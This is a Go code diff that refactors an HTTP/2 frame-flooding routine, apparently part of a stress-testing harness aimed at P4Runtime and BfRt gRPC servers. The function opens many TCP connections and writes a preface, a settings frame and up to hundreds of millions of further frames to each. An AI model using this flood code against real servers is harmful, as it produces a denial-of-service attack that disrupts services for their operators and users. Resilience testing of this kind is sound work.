@@ -7,8 +7,6 @@ import (
 	"io"
 	"net"
 	"strings"
-	"sync"
-	"time"
 )
 
 // What a client may do to a server of HTTP/2 below the calls: frames that cost it
@@ -134,31 +132,18 @@ func floods() []flood {
 	}
 }
 
-// lay has n connections flood a server. Who is turned away comes again.
+// lay has n connections flood a server.
 func (f *flood) lay(over context.Context, n int, address, method string) error {
-	var all sync.WaitGroup
-	for range n {
-		all.Go(func() {
-			for over.Err() == nil {
-				conn, err := net.DialTimeout("tcp", address, time.Second)
-				if err != nil {
-					continue
-				}
-				end := context.AfterFunc(over, func() { conn.Close() })
-				if !f.deaf {
-					go io.Copy(io.Discard, conn)
-				}
-				_, err = conn.Write(append(append([]byte(preface), frame(settingsFrame, 0, 0, nil)...), f.first(method)...))
-				for i := uint32(0); err == nil && i < 1<<29; i++ {
-					_, err = conn.Write(f.next(method, i))
-				}
-				end()
-				conn.Close()
-			}
-		})
-	}
-	all.Wait()
-	return nil
+	return each(over, n, address, func(conn net.Conn) error {
+		if !f.deaf {
+			go io.Copy(io.Discard, conn)
+		}
+		_, err := conn.Write(append(append([]byte(preface), frame(settingsFrame, 0, 0, nil)...), f.first(method)...))
+		for i := uint32(0); err == nil && i < 1<<29; i++ {
+			_, err = conn.Write(f.next(method, i))
+		}
+		return err
+	})
 }
 
 // floodSieges flood P4Runtime's server with each kind of frames, and BfRt's, which
